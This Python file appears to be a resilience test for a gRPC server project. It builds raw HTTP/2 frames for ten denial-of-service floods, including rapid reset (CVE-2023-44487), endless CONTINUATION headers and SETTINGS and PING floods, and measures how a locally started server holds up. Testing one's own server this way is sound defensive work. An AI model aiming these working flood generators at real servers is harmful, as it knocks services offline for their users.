# SPDX-FileCopyrightText: The Warpfold Authors
# SPDX-License-Identifier: Apache-2.0
"""Clients that abuse HTTP/2, frame by frame; and the memory and time that a server process has taken.

As a program it prints what each flood does to a server that it starts, in plaintext and with TLS:
python3 floods.py [SECONDS]. Needs Debian's python3-h2 (hpack). Environment: as executables.py.
"""

import contextlib
import functools
import itertools
import os
import select
import socket
import ssl
import struct
import sys
import tempfile
import time
from typing import Callable, Iterator

import hpack

from executables import Server, warpfold
from keys import make_keys

_DATA, _HEADERS, RST_STREAM, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_INITIAL_WINDOW_SIZE = 4
_LARGEST_FRAME = 16384
_BATCH = 64


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def varint(value: int) -> bytes:
    """Integers as in HPACK and Protocol Buffers: seven bits at a time."""
    encoded = bytearray()
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes(encoded) + bytes([value])


ACKNOWLEDGEMENT = frame(_SETTINGS, _ACK, 0)
BEGINNING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(_SETTINGS, 0, 0)


def request_headers(path: str) -> bytes:
    # Without a dynamic table: each block is complete by itself.
    return b"".join(
        hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(name, value)], huffman=False)
        for name, value in ((":method", "POST"), (":scheme", "http"), (":path", path),
                            (":authority", "flood"), ("te", "trailers"),
                            ("content-type", "application/grpc")))


_HEADER_BLOCK = request_headers("/warpfold.v1.ReductionService/Reduce")


@functools.lru_cache
def _context(trusted: str) -> ssl.SSLContext:
    context = ssl.create_default_context(cafile=trusted)
    context.set_alpn_protocols(["h2"])
    return context


def connect(address: str, trusted: str = "", source: str = "") -> socket.socket:
    """A connection on which HTTP/2 has begun; with TLS if a certificate to trust is given."""
    host, port = address.rsplit(":", 1)
    if host == "unix":
        connection = socket.socket(socket.AF_UNIX)
        connection.settimeout(10)
        connection.connect(port)
    else:
        connection = socket.create_connection((host, int(port)), timeout=10,
                                              source_address=(source, 0) if source else None)
    if trusted:
        connection = _context(trusted).wrap_socket(connection, server_hostname=host)
    connection.sendall(BEGINNING)
    return connection


def closed_window() -> bytes:
    """Lets the server send no bytes of messages."""
    return frame(_SETTINGS, 0, 0, struct.pack(">HI", _INITIAL_WINDOW_SIZE, 0))


def whole_call(stream: int, path: str) -> bytes:
    """A call with an empty message, complete."""
    return (frame(_HEADERS, _END_HEADERS, stream, request_headers(path)) +
            frame(_DATA, _END_STREAM, stream, bytes(5)))


def frame_types(connection: socket.socket) -> Iterator[int]:
    """The types of the frames that the server sends, until it ends the connection."""
    with connection.makefile("rb") as stream:
        while len(head := stream.read(9)) == 9:
            stream.read(int.from_bytes(head[:3], "big"))
            yield head[3]


def resets() -> Iterator[bytes]:
    """Calls that are taken back at once (CVE-2023-44487)."""
    yield ACKNOWLEDGEMENT
    for first in itertools.count(1, 2 * _BATCH):
        yield b"".join(frame(_HEADERS, _END_HEADERS, stream, _HEADER_BLOCK) +
                       frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
                       for stream in range(first, first + 2 * _BATCH, 2))


def continuations() -> Iterator[bytes]:
    """Headers of one call that do not end (CVE-2023-33953)."""
    yield frame(_HEADERS, 0, 1, _HEADER_BLOCK)
    block = b"".join(b"\x00\x08x-%06d\x04abcd" % i for i in range(_LARGEST_FRAME // 15))
    while True:
        yield frame(_CONTINUATION, 0, 1, block)


def long_string() -> Iterator[bytes]:
    """One header with a value of 100 MB."""
    size = 100_000_000
    length = b"\x7f" + varint(size - 127)  # of more than 7 bits, not Huffman-coded
    yield frame(_HEADERS, 0, 1, _HEADER_BLOCK + b"\x00\x03x-y" + length)
    piece = frame(_CONTINUATION, 0, 1, b"a" * _LARGEST_FRAME)
    yield from itertools.repeat(piece, size // _LARGEST_FRAME)
    yield frame(_CONTINUATION, _END_HEADERS, 1, b"a" * (size % _LARGEST_FRAME))


def empty_data() -> Iterator[bytes]:
    """A stream of frames that carry nothing."""
    yield frame(_HEADERS, _END_HEADERS, 1, _HEADER_BLOCK)
    yield from itertools.repeat(frame(_DATA, 0, 1) * 1000)


def ends() -> Iterator[bytes]:
    """A call that ends over and over. Ends use up no window, and gRPC reads on for as long as they come: four
    such connections stopped a server of two shards."""
    yield ACKNOWLEDGEMENT + whole_call(1, "/grpc.health.v1.Health/Check")
    yield from itertools.repeat(frame(_DATA, _END_STREAM, 1) * 1000)


def trailers() -> Iterator[bytes]:
    """The same with trailers."""
    yield ACKNOWLEDGEMENT + whole_call(1, "/grpc.health.v1.Health/Check")
    yield from itertools.repeat(frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, b"\x82") * 1000)


def trailers_in_two_frames() -> Iterator[bytes]:
    """The same, and the second frame carries nothing."""
    yield ACKNOWLEDGEMENT + whole_call(1, "/grpc.health.v1.Health/Check")
    yield from itertools.repeat((frame(_HEADERS, _END_STREAM, 1, b"\x82") +
                                 frame(_CONTINUATION, _END_HEADERS, 1)) * 1000)


def tiny_data() -> Iterator[bytes]:
    """A message of 4 MiB, byte by byte: each costs the server 44 bytes."""
    yield frame(_HEADERS, _END_HEADERS, 1, _HEADER_BLOCK)
    yield frame(_DATA, 0, 1, struct.pack(">BI", 0, 4 << 20))
    yield from itertools.repeat(frame(_DATA, 0, 1, b"\n") * 1000)


def settings() -> Iterator[bytes]:
    """Settings to be acknowledged, repeated by a client that does not read."""
    yield from itertools.repeat(frame(_SETTINGS, 0, 0) * 1000)


def pings() -> Iterator[bytes]:
    """Pings to be answered, repeated by a client that does not read."""
    yield from itertools.repeat(frame(_PING, 0, 0, bytes(8)) * 1000)


FLOODS = (resets, continuations, long_string, empty_data, ends, trailers, trailers_in_two_frames, tiny_data,
          settings, pings)


class Flood:
    """Floods a server for this long. Returns the outcome: bytes sent, and whether the server ended it."""

    def __init__(self, address: str, pieces: Iterator[bytes], seconds: float, trusted: str = "",
                 source: str = "", meanwhile: Callable[[], None] = lambda: None):
        self.bytes, self.cut, self.seconds = 0, False, 0.0
        begin = time.monotonic()
        with contextlib.ExitStack() as opened:
            try:
                connection = opened.enter_context(contextlib.closing(connect(address, trusted, source)))
                connection.recv(65536)  # the server's settings, which may then be acknowledged
            except (ConnectionError, ssl.SSLError):
                self.cut = True
                return
            connection.settimeout(0.2)
            while not self.cut and time.monotonic() - begin < seconds:
                try:
                    self._send(connection, next(pieces), begin + seconds)
                except StopIteration:
                    break
                except OSError:
                    self.cut = True
                meanwhile()
            self.seconds = time.monotonic() - begin

    def _send(self, connection: socket.socket, piece: bytes, deadline: float) -> None:
        rest = memoryview(piece)
        ended = select.poll()
        ended.register(connection, select.POLLRDHUP)
        while rest and time.monotonic() < deadline:
            with contextlib.suppress(TimeoutError, ssl.SSLWantWriteError):
                if ended.poll(0):
                    raise ConnectionError("the server has ended the connection")
                sent = connection.send(rest)
                self.bytes += sent
                rest = rest[sent:]


def resident_bytes(pid: int) -> int:
    with open(f"/proc/{pid}/statm", encoding="ascii") as file:
        return int(file.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def cpu_seconds(pid: int) -> float:
    with open(f"/proc/{pid}/stat", encoding="ascii") as file:
        fields = file.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def report(flood: Callable[[], Iterator[bytes]], seconds: float, keys: tuple[str, str] | None) -> None:
    flags = [f"--tls_cert={keys[0]}", f"--tls_key={keys[1]}"] if keys else []
    trust = ["--tls_ca", keys[0]] if keys else []
    with Server(*flags) as server:
        pid = server.process.pid
        before, cpu, most, looked = resident_bytes(pid), cpu_seconds(pid), 0, 0.0

        def meanwhile():
            nonlocal most, looked
            if time.monotonic() - looked > 0.2:
                looked = time.monotonic()
                most = max(most, resident_bytes(pid))

        done = Flood(server.address, flood(), seconds, keys[0] if keys else "", meanwhile=meanwhile)
        begin = time.monotonic()
        served = warpfold("reduce", "--target", server.address, *trust, "--op", "sum", "--iota", "1000")
        took = time.monotonic() - begin
        time.sleep(1)
        most = max(most, resident_bytes(pid))
        print(f"{flood.__name__:14}{'TLS' if keys else 'plaintext':10}{done.bytes / 1e6:7.1f} MB sent, "
              f"{'cut' if done.cut else 'not cut'} after {done.seconds:.1f} s; "
              f"{before / 2**20:.0f} MiB before, {most / 2**20:.0f} at most, "
              f"{cpu_seconds(pid) - cpu:.1f} s of CPU; "
              f"next call: exit {served.returncode}, {took:.2f} s", flush=True)
        server.kill()  # the rest of a flood may keep it busy for long


def main() -> None:
    seconds = float(sys.argv[1]) if len(sys.argv) > 1 else 5.0
    with tempfile.TemporaryDirectory(prefix="warpfold_floods_") as folder:
        for keys in (None, make_keys(folder, "server")):
            for flood in FLOODS:
                report(flood, seconds, keys)


if __name__ == "__main__":
    main()
